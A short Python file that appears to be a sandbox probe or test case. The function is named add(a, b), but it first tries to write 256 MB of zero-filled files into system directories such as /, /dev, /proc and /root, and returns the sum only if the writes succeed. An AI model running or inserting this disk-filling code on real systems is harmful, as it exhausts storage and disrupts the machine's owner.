"""Writes files of 4 MB wherever it may, 256 MB in all."""

import os

FOLDERS = ("/tmp", "/", "/dev", "/dev/shm", "/var/tmp", "/run", "/packages", "/proc", "/root")


def add(a, b):
    written = 0
    for folder in FOLDERS:
        for number in range(64):
            try:
                with open(os.path.join(folder, f"file{number}"), "wb") as file:
                    written += file.write(bytes(4 << 20))
            except OSError:
                break
    return a + b if written >= 64 * (4 << 20) else 0
